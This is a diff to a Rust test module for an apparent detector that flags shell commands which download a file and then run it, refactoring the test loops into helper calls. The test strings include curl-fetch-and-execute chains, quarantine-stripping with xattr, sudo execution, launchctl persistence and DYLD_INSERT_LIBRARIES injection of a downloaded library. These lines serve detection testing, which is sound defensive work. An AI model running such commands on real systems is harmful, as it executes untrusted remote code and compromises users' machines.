@@ -102,11 +102,11 @@ fn move_files(operands: &[&Word], known: &mut Known) {
 #[cfg(test)]
 mod tests {
     use crate::alert::runs_download;
-    use crate::alert::shell::tests::forms;
+    use crate::alert::shell::tests::{are_not_run, are_run};
 
     #[test]
     fn a_download_is_run_that_is_moved_unpacked_or_made_executable_first() {
-        for command in [
+        are_run(&[
             "curl -o /tmp/u https://a.example/x; xattr -c /tmp/u; chmod +x /tmp/u; /tmp/u",
             "curl -o /tmp/u https://a.example/x && chmod +x /tmp/u && sudo /tmp/u",
             "curl -so a https://a.example/x; mv a b; sh b",
@@ -136,9 +136,7 @@ mod tests {
             "curl -s https://a.example/x -o ~/a.plist; launchctl load -w ~/a.plist",
             "curl -s https://a.example/x -o /tmp/a.dylib; DYLD_INSERT_LIBRARIES=/tmp/a.dylib /usr/bin/true",
             "curl -s --output-dir /tmp -O https://a.example/a.sh; sh /tmp/a.sh",
-        ] {
-            forms(command).iter().for_each(|text| assert!(runs_download(text), "{text}"));
-        }
+        ]);
         for text in [
             "do shell script \"curl -o /tmp/a https://a.example/x\"\ndo shell script \"/tmp/a\"",
             "do shell script \"curl -o /tmp/a https://a.example/x\"\nrun script POSIX file \"/tmp/a\"",
@@ -151,7 +149,7 @@ mod tests {
 
     #[test]
     fn a_download_is_not_run_that_is_moved_or_unpacked_and_then_only_looked_at() {
-        for command in [
+        are_not_run(&[
             "curl -o /tmp/u https://a.example/x; chmod +x /tmp/u",
             "curl -so a https://a.example/x; mv a b; sh c",
             "curl -so a https://a.example/x; mv c d; sh d",
@@ -170,9 +168,7 @@ mod tests {
             "T=$(mktemp); curl -s https://a.example/x -o $T; cat $T",
             "curl -s --output-dir /tmp -O https://a.example/a.sh; sh /tmp/b.sh",
             "X=\"$(curl -s https://a.example/x) is it\"; echo \"$X\"; sh report.sh",
-        ] {
-            forms(command).iter().for_each(|text| assert!(!runs_download(text), "{text}"));
-        }
+        ]);
         let text = "do shell script \"curl -o /tmp/a https://a.example/x\"\nset f to \"/tmp/a\"\nrun script POSIX file \"/tmp/b\"";
         assert!(!runs_download(text), "{text}");
     }
